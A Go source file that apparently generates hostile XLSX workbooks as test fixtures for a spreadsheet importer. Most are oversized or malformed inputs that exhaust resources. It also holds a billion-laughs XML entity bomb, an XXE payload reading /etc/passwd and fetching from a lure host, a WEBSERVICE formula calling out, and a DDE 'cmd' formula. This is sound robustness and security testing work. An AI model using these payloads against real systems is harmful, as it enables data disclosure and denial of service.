package hostile

import (
	"fmt"
	"slices"
	"strings"
)

const (
	sheetPart   = "xl/worksheets/sheet1.xml"
	head        = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	mainNS      = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	office      = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	sheetHead   = head + "<worksheet " + mainNS + "><sheetData>"
	sheetFoot   = "</sheetData></worksheet>"
	stringsHead = head + "<sst " + mainNS + ">"
	relations   = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
)

// xlsx is a workbook with one sheet, and parts of it that replace or follow the usual ones.
func xlsx(parts ...part) []byte { return book(1, parts...) }

// book is a workbook with so many sheets.
func book(sheets int, parts ...part) []byte {
	var list, related, types strings.Builder
	for i := 1; i <= sheets; i++ {
		fmt.Fprintf(&list, `<sheet name="S%d" sheetId="%d" r:id="rId%d"/>`, i, i, i)
		fmt.Fprintf(&related, `<Relationship Id="rId%d" Type="%sworksheet" Target="worksheets/sheet%d.xml"/>`, i, office, i)
		fmt.Fprintf(&types, `<Override PartName="/xl/worksheets/sheet%d.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`, i)
	}
	for _, kind := range []string{"sharedStrings", "styles"} {
		if slices.ContainsFunc(parts, func(p part) bool { return p.name == "xl/"+kind+".xml" }) {
			fmt.Fprintf(&related, `<Relationship Id="%s" Type="%s%[1]s" Target="%[1]s.xml"/>`, kind, office)
		}
	}
	usual := []part{
		{name: "[Content_Types].xml", head: head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` + types.String() + `</Types>`},
		{name: "_rels/.rels", head: head + relations + `<Relationship Id="rId1" Type="` + office + `officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{name: "xl/workbook.xml", head: head + "<workbook " + mainNS + "><sheets>" + list.String() + "</sheets></workbook>"},
		{name: "xl/_rels/workbook.xml.rels", head: head + relations + related.String() + "</Relationships>"},
	}
	usual = slices.DeleteFunc(usual, func(u part) bool { return slices.ContainsFunc(parts, func(p part) bool { return p.name == u.name }) })
	return archive(append(usual, parts...)...)
}

// sheetOf is a sheet with rows and what follows them.
func sheetOf(rows string, after ...string) part {
	return part{name: sheetPart, head: sheetHead + rows + "</sheetData>" + strings.Join(after, "") + "</worksheet>"}
}

func row(cells ...string) string { return "<row>" + strings.Join(cells, "") + "</row>" }

func text(t string) string { return `<c t="str"><v>` + t + `</v></c>` }

func stylesOf(inner string) part {
	return part{name: "xl/styles.xml", head: head + "<styleSheet " + mainNS + ">" + inner + "</styleSheet>"}
}

// workbooks are xlsx files whose parts are what they say, and too much.
var workbooks = []trap{
	{"rows-sparse.xlsx", "a cell in every corner, and each row far from the next", constant(func() []byte {
		return xlsx(sheetOf(`<row r="1"><c r="A1"><v>1</v></c></row>` + numbered(`<row r="%[1]d0"><c r="XFD%[1]d0" t="str"><v>Seller</v></c></row>`, 100_000) + `<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`))
	})},
	{"rows-same.xlsx", "one row, a quarter of a million times", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: `<row r="1"><c r="A1" t="str"><v>Seller</v></c></row>`, times: 240_000, foot: sheetFoot})
	})},
	{"rows-backwards.xlsx", "rows from the last to the first", constant(func() []byte {
		var rows strings.Builder
		for i := 240_000; i > 0; i-- {
			fmt.Fprintf(&rows, `<row r="%d"><c r="B%[1]d"><v>1</v></c></row>`, i)
		}
		return xlsx(sheetOf(rows.String()))
	})},
	{"styles-million.xlsx", "10^6 styles", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"))), part{name: "xl/styles.xml", head: head + "<styleSheet " + mainNS + "><cellXfs>", body: `<xf numFmtId="14"/>`, times: 1_000_000, foot: "</cellXfs></styleSheet>"})
	})},
	{"styles-formats.xlsx", "10^5 number formats, each long", constant(func() []byte {
		return xlsx(sheetOf(row(`<c s="1"><v>45000</v></c>`)), stylesOf("<numFmts>"+numbered(`<numFmt numFmtId="%d" formatCode="`+strings.Repeat("[Red]yyyy\\-", 30)+`"/>`, 90_000)+`</numFmts><cellXfs><xf numFmtId="1"/><xf numFmtId="164"/></cellXfs>`))
	})},
	{"styles-format-long.xlsx", "a number format of a megabyte, on 100,000 cells", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: `<row><c s="1"><v>45000.25</v></c></row>`, times: 100_000, foot: sheetFoot},
			stylesOf(`<numFmts><numFmt numFmtId="164" formatCode="`+strings.Repeat("0.0yyyy??/??", 1<<20/12)+`"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>`))
	})},
	{"cells-empty.xlsx", "a million cells that are empty and styled", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: `<row>` + strings.Repeat(`<c s="1"/>`, 1000) + "</row>", times: 1000, foot: sheetFoot}, stylesOf(`<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>`))
	})},
	{"cells-labels.xlsx", "as many cells as there may be, each a label", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: row(text("Seller"), text("Buyer"), text("Container No"), text("HTS"), text("Gross Weight")), times: 49_999, foot: sheetFoot})
	})},
	{"cells-wide.xlsx", "16,384 columns of labels", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: row(strings.Repeat(text("Seller")+text("HTS"), 8192)), times: 15, foot: sheetFoot})
	})},
	{"cells-row.xlsx", "20 rows with as many labels as one may have", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: row(strings.Repeat(text("Seller")+text("HTS"), 2048)), times: 20, foot: sheetFoot})
	})},
	{"cells-too-many.xlsx", "one cell more than there may be", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: row(text("Seller")), times: 250_001, foot: sheetFoot})
	})},
	{"text-long.xlsx", "a text of 4 MB", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"), text(strings.Repeat("Acme Road 12, ", 4<<20/14-10)))))
	})},
	{"text-labels.xlsx", "a text of 4 MB of labels", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"), text(strings.Repeat("Seller: MSKU1234565 / 40HC\n", 4<<20/27-10)))))
	})},
	{"text-labels-many.xlsx", "twenty texts of 128 KiB of labels", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: row(text("Seller"), text(strings.Repeat("Seller: MSKU1234565 / 40HC\n", 128<<10/27))), times: 20, foot: sheetFoot})
	})},
	{"text-shared.xlsx", "one text of 32,767 letters in each of 200,000 cells", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: `<row><c t="s"><v>0</v></c></row>`, times: 200_000, foot: sheetFoot},
			part{name: "xl/sharedStrings.xml", head: stringsHead + "<si><t>" + strings.Repeat("Seller: 12 Main St, ", 32_767/20) + "</t></si></sst>"})
	})},
	{"text-shared-long.xlsx", "one text of 4 MB in each of 200,000 cells", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: `<row><c t="s"><v>0</v></c></row>`, times: 200_000, foot: sheetFoot},
			part{name: "xl/sharedStrings.xml", head: stringsHead + "<si><t>" + strings.Repeat("Seller: 12 Main St, ", 4<<20/20-10) + "</t></si></sst>"})
	})},
	{"text-runs.xlsx", "a text in a hundred thousand runs", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead + `<row><c t="inlineStr"><is>`, body: "<r><t>Seller </t></r>", times: 100_000, foot: "</is></c></row>" + sheetFoot})
	})},
	{"strings-many.xlsx", "a million shared texts", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"))), part{name: "xl/sharedStrings.xml", head: stringsHead + numbered("<si><t>Acme %d</t></si>", 1_000_000) + "</sst>"})
	})},
	{"merges-many.xlsx", "100,000 merged areas, all overlapping", constant(func() []byte {
		return xlsx(sheetOf(strings.Repeat(row(text("Seller"), text("Acme")), 1000), "<mergeCells>"+numbered(`<mergeCell ref="A%d:XFD1048576"/>`, 99_999)+"</mergeCells>"))
	})},
	{"merges-large.xlsx", "the whole sheet merged", constant(func() []byte {
		return xlsx(sheetOf(strings.Repeat(row(text("Seller"), text("Acme"), text("HTS")), 20_000), `<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`))
	})},
	{"formulas-recursive.xlsx", "shared formulas that refer to themselves", constant(func() []byte {
		return xlsx(sheetOf(`<row r="1"><c r="A1"><f t="shared" ref="A1:XFD1048576" si="0">A1+INDIRECT("A1")</f></c>` + numbered(`<c><f t="shared" si="%d"/></c>`, 10_000) + "</row>" + numbered(`<row><c><f>A%d</f></c></row>`, 20_000)))
	})},
	{"formulas-long.xlsx", "a formula of 4 MB without a value", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"), "<c><f>"+strings.Repeat("(", 1<<20)+"A1"+strings.Repeat(")", 1<<20)+"</f></c>")))
	})},
	{"links.xlsx", "links, pictures and books elsewhere", func(around Surroundings) []byte {
		link := `<Relationship Id="rId9" Type="` + office + `%s" Target="` + around.Lure + `/%s" TargetMode="External"/>`
		return xlsx(sheetOf(row(text("Seller"), text("Acme"))+row(`<c t="str"><f>WEBSERVICE("`+around.Lure+`/formula")</f><v>1</v></c>`, `<c t="str"><f>cmd|'/c calc'!A1</f><v>2</v></c>`, `<c t="str"><f>'file:///etc/[passwd]S1'!A1</f><v>3</v></c>`),
			`<hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks><drawing r:id="rId9"/><legacyDrawing r:id="rId9"/>`),
			part{name: "xl/worksheets/_rels/sheet1.xml.rels", head: head + relations + fmt.Sprintf(link, "hyperlink", "link") + fmt.Sprintf(link, "comments", "comments") + fmt.Sprintf(link, "drawing", "drawing") + "</Relationships>"},
			part{name: "xl/_rels/workbook.xml.rels", head: head + relations + `<Relationship Id="rId1" Type="` + office + `worksheet" Target="worksheets/sheet1.xml"/>` + fmt.Sprintf(link, "styles", "styles") + fmt.Sprintf(link, "sharedStrings", "strings") + fmt.Sprintf(link, "externalLink", "book") + "</Relationships>"})
	}},
	{"entities.xlsx", "entities in entities, a billion of them", constant(func() []byte {
		entities := `<!ENTITY a0 "lol">`
		for i := range 10 {
			entities += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
		}
		return xlsx(part{name: sheetPart, head: `<!DOCTYPE worksheet [` + entities + `]><worksheet ` + mainNS + `><sheetData>` + row(text("Seller"), text("&a10;")) + sheetFoot})
	})},
	{"entities-elsewhere.xlsx", "entities that are fetched", func(around Surroundings) []byte {
		return xlsx(part{name: sheetPart, head: `<!DOCTYPE worksheet SYSTEM "` + around.Lure + `/dtd" [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "` + around.Lure + `/entity"><!ENTITY % more SYSTEM "` + around.Lure + `/more">%more;]><worksheet ` + mainNS + `><sheetData>` + row(text("Seller"), text("&file;&web;")) + sheetFoot})
	}},
	{"relations-recursive.xlsx", "parts that are related to themselves and to one another", constant(func() []byte {
		related := relations
		for i, target := range []string{"workbook.xml", "worksheets/sheet1.xml", "_rels/workbook.xml.rels", "../[Content_Types].xml", "../_rels/.rels", "."} {
			for _, kind := range []string{"worksheet", "styles", "sharedStrings", "officeDocument", "comments", "drawing", "vmlDrawing"} {
				related += fmt.Sprintf(`<Relationship Id="rId%d%s" Type="%s%[2]s" Target="%[4]s"/>`, i, kind, office, target)
			}
		}
		related += "</Relationships>"
		return xlsx(sheetOf(row(text("Seller"), text("Acme")), `<drawing r:id="rId1drawing"/><legacyDrawing r:id="rId0vmlDrawing"/>`),
			part{name: "_rels/.rels", head: head + strings.ReplaceAll(related, `Target="`, `Target="xl/`)},
			part{name: "xl/_rels/workbook.xml.rels", head: head + related}, part{name: "xl/worksheets/_rels/sheet1.xml.rels", head: head + related},
			part{name: "xl/workbook.xml", head: head + "<workbook " + mainNS + `><sheets><sheet name="A" sheetId="1" r:id="rId0worksheet"/><sheet name="B" sheetId="2" r:id="rId1worksheet"/><sheet name="C" sheetId="3" r:id="rId2worksheet"/></sheets></workbook>`})
	})},
	{"sheets-same.xlsx", "a thousand sheets that are one part", constant(func() []byte {
		var list strings.Builder
		for i := range 1000 {
			fmt.Fprintf(&list, `<sheet name="S%d" sheetId="%d" r:id="rId1"/>`, i, i+1)
		}
		return xlsx(sheetOf(strings.Repeat(row(text("Seller"), text("Acme")), 2000)), part{name: "xl/workbook.xml", head: head + "<workbook " + mainNS + "><sheets>" + list.String() + "</sheets></workbook>"})
	})},
	{"sheets-thousand.xlsx", "a thousand sheets, each a small form", constant(func() []byte {
		var parts []part
		for i := range 1000 {
			parts = append(parts, part{name: fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1), head: sheetHead + row(text("House B/L"), text("ABCD1234567")) + row(text("Seller"), text("Acme")) + row(text("HTS"), text("9403.60.8081")) + sheetFoot})
		}
		return book(1000, parts...)
	})},
	{"names-many.xlsx", "half a million defined names, validations and widths", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"), text("Acme")), "<dataValidations>"+numbered(`<dataValidation type="list" sqref="A%d:XFD1048576"><formula1>$A$1:$XFD$1048576</formula1></dataValidation>`, 200_000)+"</dataValidations>"),
			part{name: "xl/workbook.xml", head: head + "<workbook " + mainNS + `><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets><definedNames>` + numbered(`<definedName name="n%d">S1!$A$1:$XFD$1048576</definedName>`, 300_000) + "</definedNames></workbook>"})
	})},
	{"comments-many.xlsx", "90,000 comments", constant(func() []byte {
		return xlsx(sheetOf(row(text("Seller"), text("Acme"))),
			part{name: "xl/worksheets/_rels/sheet1.xml.rels", head: head + relations + `<Relationship Id="rId1" Type="` + office + `comments" Target="../comments1.xml"/></Relationships>`},
			part{name: "xl/comments1.xml", head: head + "<comments " + mainNS + "><authors><author>a</author></authors><commentList>" + numbered(`<comment ref="A%d" authorId="0"><text><t>Seller: Acme</t></text></comment>`, 90_000) + "</commentList></comments>"})
	})},
	{"xml-deep.xlsx", "a million elements in one another", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead, body: "<a>", times: 1_000_000, foot: sheetFoot})
	})},
	{"xml-attributes.xlsx", "a million attributes", constant(func() []byte {
		return xlsx(sheetOf("<row " + numbered(`a%d="" `, 1_000_000) + ">" + text("Seller") + "</row>"))
	})},
	{"xml-attribute.xlsx", "an attribute of 100 MB", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead + `<row a="`, body: numbered("%d ", 2000), times: 11_000, foot: `"/>` + sheetFoot})
	})},
	{"xml-comment.xlsx", "a comment of 100 MB in the XML", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: sheetHead + `<!-- `, body: numbered("%d ", 2000), times: 11_000, foot: `-->` + row(text("Seller")) + sheetFoot})
	})},
	{"xml-halves.xlsx", "the sheet is UTF-16 with halves of characters", constant(func() []byte {
		return xlsx(part{name: sheetPart, head: "\xff\xfe" + wide(`<?xml version="1.0" encoding="UTF-16"?><worksheet `+mainNS+"><sheetData>"+row(text("Seller"), text("Ac"))) + "\x00\xd8\x00\xdc\x00\xd8\x00"})
	})},
}

// wide is a text of ASCII in UTF-16, little end first.
func wide(text string) string {
	var b strings.Builder
	for _, c := range []byte(text) {
		b.Write([]byte{c, 0})
	}
	return b.String()
}
